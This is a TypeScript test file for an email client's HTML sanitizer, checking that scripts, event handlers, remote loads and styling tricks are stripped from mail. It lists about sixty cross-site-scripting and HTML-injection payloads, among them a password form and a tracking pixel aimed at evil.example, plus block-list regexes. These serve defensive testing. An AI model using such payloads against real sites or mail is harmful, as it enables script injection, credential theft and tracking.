import { parseFragment, type DefaultTreeAdapterTypes } from 'parse5';
import { describe, expect, test } from 'vitest';
import { parse } from '../src/mime/parse.js';
import { sanitize } from '../src/mime/sanitize.js';
import { anHtmlMail, filesIn, hasEmail, read, TALON } from './support/mail.js';

type Node = DefaultTreeAdapterTypes.ChildNode;
type Element = DefaultTreeAdapterTypes.Element;

const FORBIDDEN =
  /^(script|style|link|meta|base|iframe|frame|frameset|object|embed|applet|form|input|button|select|textarea|svg|math|template|video|audio|source|picture|noscript|xml|portal|dialog)$/;

/** Every element as a browser would see it. */
function elements(html: string): Element[] {
  const all = (nodes: Node[]): Element[] =>
    nodes.flatMap((node) => ('tagName' in node ? [node, ...all(node.childNodes)] : []));
  return all(parseFragment(html).childNodes);
}

function expectHarmless(html: string): void {
  for (const { tagName, attrs, namespaceURI } of elements(html)) {
    expect(tagName).not.toMatch(FORBIDDEN);
    expect(namespaceURI).toBe('http://www.w3.org/1999/xhtml');
    for (const { name, value } of attrs) {
      expect(name).not.toMatch(
        /^(on|srcset|srcdoc|background|action|formaction|poster|data$|id$|class$|name$|ping|xlink|style-)/,
      );
      if (name === 'src') expect(value).toMatch(/^cid:/i);
      if (name === 'href') expect(value).toMatch(/^(https?:|mailto:|tel:)/i);
      if (name === 'data-remote-src') expect(value).toMatch(/^https?:\/\//);
      if (name === 'style')
        expect(value).not.toMatch(/url|expression|@|position|javascript|\\|behavior|binding|z-index|float/i);
    }
  }
}

const TRICKS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img/src="x"/onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img srcset="https://evil.example/a.png 1x, https://evil.example/b.png 2x">',
  '<img src="cid:a" onload=alert(1) style="position:fixed;top:0">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="https://ok.example" ping="https://evil.example" onclick="x()">x</a>',
  '<svg><script>alert(1)</script></svg>',
  '<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math href="javascript:alert(1)">x</math>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
  '<form action="https://evil.example"><input name=password><button>Go</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import url(https://evil.example/x.css); body{background:url(https://evil.example/x.png)}</style>',
  '<div style="background:url(https://evil.example/x.png)">x</div>',
  '<div style="background-image:u\\72l(https://evil.example/x.png)">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<div style="position:fixed;inset:0;z-index:99999;background:#fff">cover</div>',
  '<div style="position : absolute; margin: -500px">x</div>',
  '<div style="behavior:url(x.htc);-moz-binding:url(x.xml)">x</div>',
  '<div style="color:red;/**/background:/**/url(https://evil.example)">x</div>',
  '<div style="font-family:\'x\';}body{background:url(x)}">x</div>',
  '<table background="https://evil.example/x.png"><tr><td background="x">y</td></tr></table>',
  '<body background="https://evil.example/x.png" onload="alert(1)">x</body>',
  '<video src="https://evil.example/x.mp4" poster="https://evil.example/x.png"></video><audio src=x onerror=alert(1)>',
  '<picture><source srcset="https://evil.example/x.png"><img src="https://evil.example/y.png"></picture>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><img src=x onerror=alert(1)></template>',
  '<xmp><img src=x onerror=alert(1)></xmp><plaintext><img src=x onerror=alert(1)>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<p id="root" class="app" name="x">x</p>',
  '<a id=x name=y href="https://ok.example" target="_self" rel="opener">x</a>',
  '<marquee onstart=alert(1)>x</marquee><details open ontoggle=alert(1)>x</details>',
  '<isindex action="javascript:alert(1)"><keygen autofocus onfocus=alert(1)>',
  '<p/onmouseover=alert(1)>x</p><p\fonclick=alert(1)>y</p>',
  '<?xml version="1.0"?><?php echo 1 ?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  '<font style="color:red" color="javascript:x" size="99999999999">x</font>',
  '<img width="100%" height="999999" src="https://evil.example/pixel.gif?ana@example.org">',
];

describe('HTML of a mail', () => {
  test.each(TRICKS)('loses what is dangerous: %s', (trick) => {
    const { html } = sanitize(`<p>before</p>${trick}<p>after</p>`);
    expectHarmless(html);
    expect(html).toContain('before');
    // What was cleaned stays clean when it is cleaned again.
    expectHarmless(sanitize(html).html);
  });

  test('loses it however tricks are put together', () => {
    for (const one of TRICKS) for (const other of TRICKS) expectHarmless(sanitize(one.slice(0, -3) + other).html);
  });

  test('loads no image, but says that there are some', () => {
    expect(sanitize('<img src="https://example.org/a.png" alt="A"><img src="//example.org/b.png">')).toEqual({
      html: '<img alt="A" data-remote-src="https://example.org/a.png" /><img data-remote-src="https://example.org/b.png" />',
      remoteContent: true,
    });
  });

  test('does not say so for a mark that its sender has set', () => {
    expect(sanitize('<img data-remote-src="javascript:alert(1)" src="cid:a">')).toEqual({
      html: '<img src="cid:a" />',
      remoteContent: false,
    });
  });

  test('keeps images of the message itself', () => {
    expect(sanitize('<img src="cid:logo@example.org">').html).toBe('<img src="cid:logo@example.org" />');
  });

  test('opens links outside, without telling where from', () => {
    expect(sanitize('<a href="https://example.org/?a=1&amp;b=2" rel="opener">x</a>').html).toBe(
      '<a href="https://example.org/?a=1&amp;b=2" rel="noopener noreferrer nofollow" target="_blank">x</a>',
    );
  });

  test('keeps how it looks', () => {
    const html =
      '<p style="color:#ff0000;font-size:12.0pt;font-family:\'Segoe UI\', Arial;margin:0 auto;border-left:1px solid rgb(204,204,204);padding:0cm 0cm 0cm 5.4pt">x</p>';
    expect(sanitize(html).html.replace(/\s/g, '')).toBe(html.replace(/\s/g, ''));
    expect(sanitize('<blockquote type="cite"><b>a</b><ul><li>b</li></ul></blockquote>').html).toBe(
      '<blockquote type="cite"><b>a</b><ul><li>b</li></ul></blockquote>',
    );
  });

  test.skipIf(!hasEmail).each(filesIn(`${TALON}/html_replies`))(
    'of a real program stays readable: %s',
    async (file) => {
      const { html } = await parse(anHtmlMail(read(TALON, 'html_replies', file)), undefined);
      expectHarmless(html ?? '');
      expect(html).toContain('Hi. I am fine.');
      expect(html).not.toMatch(/MsoNormal|@font-face|hmmessage/);
    },
  );
});
